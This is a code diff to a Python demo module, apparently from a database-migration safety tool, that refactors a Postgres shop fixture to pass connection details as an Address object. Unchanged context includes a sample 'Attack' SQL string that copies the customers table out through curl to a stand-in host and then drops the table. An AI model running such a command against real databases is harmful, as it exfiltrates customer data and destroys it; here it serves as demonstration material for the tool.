@@ -6,17 +6,17 @@ import hashlib
 import secrets
 from collections.abc import AsyncIterator, Iterator
 from contextlib import asynccontextmanager, contextmanager
-from typing import TypeAlias
+from dataclasses import replace
 
 import asyncpg
 
-from schemawarden.adapters.postgres.dev.address import Login
+from schemawarden.adapters.postgres.address import Address
+from schemawarden.adapters.postgres.connection import Connection
 from schemawarden.adapters.postgres.dev.cluster import Cluster
 from schemawarden.adapters.postgres.dev.installation import installations
 from schemawarden.cli.demo.shops import CUSTOMERS, Attack
 from schemawarden.errors import UnavailableError
 
-Connection: TypeAlias = "asyncpg.Connection[asyncpg.Record]"
 _VARIABLE = "SHOP_DATABASE_URL"
 _NEWEST = 18
 
@@ -45,9 +45,9 @@ CREATE TABLE customers (
         "COPY customers TO PROGRAM 'curl -d @- https://example.com';\nDROP TABLE customers;\n",
     )
 
-    def __init__(self, url: str) -> None:
-        self._url = url
-        self.environment = {_VARIABLE: url}
+    def __init__(self, address: Address) -> None:
+        self._address = address
+        self.environment = {_VARIABLE: address.url()}
 
     async def state(self) -> str:
         async with self._connected() as connection:
@@ -77,7 +77,7 @@ CREATE TABLE customers (
 
     @asynccontextmanager
     async def _connected(self) -> AsyncIterator[Connection]:
-        connection = await asyncpg.connect(self._url)
+        connection = await asyncpg.connect(**self._address.asyncpg())
         try:
             yield connection
         finally:
@@ -104,11 +104,11 @@ def production() -> Iterator[Cluster]:
 
 async def open_shop(cluster: Cluster) -> PostgresShop:
     """An empty database with an owner who is nobody special, as on production."""
-    owner = Login("shop", secrets.token_urlsafe(24))
-    connection = await asyncpg.connect(cluster.address.url(cluster.superuser, "postgres"))
+    shop = replace(cluster.address, user="shop", password=secrets.token_urlsafe(24), database="shop")
+    connection = await asyncpg.connect(**cluster.address.asyncpg())
     try:
-        await connection.execute(f"CREATE ROLE shop LOGIN PASSWORD '{owner.password}'")
+        await connection.execute(f"CREATE ROLE shop LOGIN PASSWORD '{shop.password}'")
         await connection.execute("CREATE DATABASE shop OWNER shop")
     finally:
         await connection.close()
-    return PostgresShop(cluster.address.url(owner, "shop"))
+    return PostgresShop(shop)
